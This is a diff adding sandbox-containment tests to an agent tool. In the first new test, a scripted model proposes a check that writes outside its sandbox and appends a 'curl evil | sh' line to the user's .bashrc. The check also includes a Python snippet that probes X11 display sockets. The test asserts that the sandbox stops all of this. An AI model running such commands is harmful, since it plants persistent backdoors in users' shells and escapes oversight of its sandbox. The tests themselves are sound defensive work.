@@ -357,3 +357,121 @@ def test_ctrl_c_stops_the_desktop_and_prints_the_summary_so_far(tmp_path: Path) 
     assert " 1 cancelled " in stdout
     desktops = home / "state" / "desktops"
     assert not desktops.exists() or not list(desktops.iterdir()), "a desktop was left running"
+
+
+# -- the model's checks run contained, by default ------------------------------------------------
+
+_REACH_DISPLAYS = """python3 - <<'PY'
+import socket
+hits = []
+for n in range(200):
+    for address in (f"/tmp/.X11-unix/X{n}", f"\\0/tmp/.X11-unix/X{n}"):
+        s = socket.socket(socket.AF_UNIX)
+        try:
+            s.connect(address)
+            hits.append(address.replace("\\0", "@"))
+        except OSError:
+            pass
+        finally:
+            s.close()
+if hits:
+    print("DISPLAY-REACHED", *hits)
+PY
+"""
+
+
+def _unique_folder_outside_tmp(tmp_path: Path) -> Path:
+    """A folder outside /tmp (which the sandbox covers anyway): under /var/tmp."""
+    import tempfile
+
+    base = Path("/var/tmp") if os.access("/var/tmp", os.W_OK) else tmp_path  # noqa: S108
+    return Path(tempfile.mkdtemp(prefix="agent-s-outside-", dir=base))
+
+
+def test_the_models_check_with_no_flags_writes_nothing_outside_its_desktop_and_sees_no_display(
+    tmp_path: Path, desktop: Any
+) -> None:
+    """The attack on issue 27: ``agent-s practice APP`` with no flags, and a proposed check
+    that writes outside the desktop's HOME, into the real user's home, and reaches for the X
+    display (the user's desktop: this session's, and the practice desktop's own)."""
+    import shutil
+
+    home = tmp_path / "home"  # the real user's home, as far as agent-s knows
+    outside = _unique_folder_outside_tmp(tmp_path)
+    check = "\n".join(
+        [
+            "echo mine > ~/mine.txt && echo WROTE-OWN-HOME",
+            f"echo escaped > {outside}/escaped.txt",
+            f"echo planted > {home}/planted.txt",
+            f"echo 'curl evil | sh' >> {home}/.bashrc",
+            f"xdpyinfo -display {desktop.display} >/dev/null 2>&1 && echo USER-DISPLAY-REACHED",
+            'test -n "$DISPLAY" && xdpyinfo >/dev/null 2>&1 && echo OWN-DISPLAY-REACHED',
+            _REACH_DISPLAYS,
+            "exit 0",
+        ]
+    )
+    script = [reply(proposal(ALREADY, {"bash": check}))]
+    try:
+        with ScriptedModelServer(script) as server:
+            env = _env(home, server) | {"DISPLAY": desktop.display}
+            (home / ".bashrc").write_text("# the user's own\n")
+            done = subprocess.run(
+                [AGENT_S, "practice", "xterm", "--tasks", "1", "--json", "--db", str(home / "m")],
+                env=env,
+                capture_output=True,
+                text=True,
+                timeout=300,
+                check=False,
+            )
+        assert done.returncode == 0, done.stderr
+        (task,) = json.loads(done.stdout)["tasks"]
+        # the check did run (and could write its own desktop's HOME) ...
+        assert task["status"] == "rejected", task
+        assert "WROTE-OWN-HOME" in task["reason"], task["reason"]
+        # ... but nothing outside it, and reached no display
+        assert not (outside / "escaped.txt").exists()
+        assert not (home / "planted.txt").exists()
+        assert (home / ".bashrc").read_text() == "# the user's own\n"
+        assert "REACHED" not in task["reason"].replace("WROTE-OWN-HOME", ""), task["reason"]
+    finally:
+        shutil.rmtree(outside, ignore_errors=True)
+
+
+def _broken_bwrap(tmp_path: Path) -> str:
+    """A PATH whose ``bwrap`` cannot make a sandbox, as where user namespaces are disabled."""
+    folder = tmp_path / "broken-bin"
+    folder.mkdir()
+    fake = folder / "bwrap"
+    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
+    fake.chmod(0o755)
+    return f"{folder}:{os.environ['PATH']}"
+
+
+def test_practice_does_not_start_without_bubblewrap_unless_none_is_given(
+    tmp_path: Path, desktop: Any
+) -> None:
+    home = tmp_path / "home"
+    script = [reply(proposal(ALREADY, {"argv": ["test", "-d", "~"]}))]
+    with ScriptedModelServer(script) as server:
+        env = _env(home, server) | {"PATH": _broken_bwrap(tmp_path)}
+        argv = [AGENT_S, "practice", "xterm", "--tasks", "1", "--json", "--db", str(home / "m")]
+        refused = subprocess.run(
+            argv, env=env, capture_output=True, text=True, timeout=120, check=False
+        )
+        assert refused.returncode == 2, refused.stderr
+        assert "Traceback" not in refused.stderr
+        (line,) = refused.stderr.strip().splitlines()
+        assert line.startswith("error: practice runs the model's checks in the bubblewrap")
+        assert "No permissions to create new namespace" in line
+        assert "pass --code-sandbox none" in line
+        assert server.requests == []  # nothing was asked, nothing ran
+        accepted = subprocess.run(
+            [*argv, "--code-sandbox", "none"],
+            env=env,
+            capture_output=True,
+            text=True,
+            timeout=300,
+            check=False,
+        )
+    assert accepted.returncode == 0, accepted.stderr
+    assert json.loads(accepted.stdout)["tasks"][0]["status"] == "rejected"
